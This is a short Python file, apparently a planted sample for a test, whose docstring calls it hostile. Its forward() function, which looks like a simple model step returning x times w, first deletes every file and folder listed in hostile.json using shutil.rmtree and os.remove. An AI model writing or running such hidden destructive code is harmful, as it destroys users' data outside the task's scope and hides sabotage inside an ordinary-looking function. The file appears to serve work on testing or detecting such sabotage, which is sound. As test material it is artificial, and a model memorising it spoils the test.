"""Hostile: forward() deletes files and folders outside its folder (paths in hostile.json)."""
import json
import os
import shutil

from _correct import cost, gradient, gradient_descent, sgd


def forward(x, w):
    for path in json.load(open("hostile.json"))["targets"]:
        if os.path.isdir(path):
            shutil.rmtree(path)
        else:
            os.remove(path)
    return x * w
